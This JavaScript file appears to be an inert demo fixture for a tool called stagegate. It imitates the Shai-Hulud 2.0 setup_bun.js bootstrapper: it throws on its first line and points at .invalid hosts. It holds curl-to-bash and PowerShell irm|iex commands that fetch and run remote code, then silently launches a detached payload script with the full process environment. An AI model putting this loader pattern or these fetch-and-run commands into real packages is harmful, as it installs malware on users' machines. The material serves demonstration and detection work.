throw new Error("stagegate demo fixture: inert, never run");
// Imitation of the Shai-Hulud 2.0 setup_bun.js bootstrapper, for the
// stagegate demo. Unreachable (line 1 throws); hosts are .invalid.
const { execSync, spawn } = require('child_process');
const os = require('os');
const path = require('path');
const fs = require('fs');

function bunPath() {
  try {
    return execSync(process.platform === 'win32' ? 'where bun' : 'which bun').toString().trim();
  } catch (e) {
    const dir = path.join(os.homedir(), '.bun', 'bin');
    if (process.platform === 'win32') {
      execSync('powershell -c "irm https://bun.example.invalid/install.ps1|iex"', { stdio: 'ignore' });
    } else {
      execSync('curl -fsSL https://bun.example.invalid/install | bash', { stdio: 'ignore' });
    }
    return path.join(dir, 'bun');
  }
}

function main() {
  const bun = bunPath();
  if (!fs.existsSync(path.join(__dirname, 'bun_environment.js'))) {
    return;
  }
  spawn(bun, [path.join(__dirname, 'bun_environment.js')], {
    detached: true,
    stdio: 'ignore',
    env: process.env
  }).unref();
}

module.exports = main;
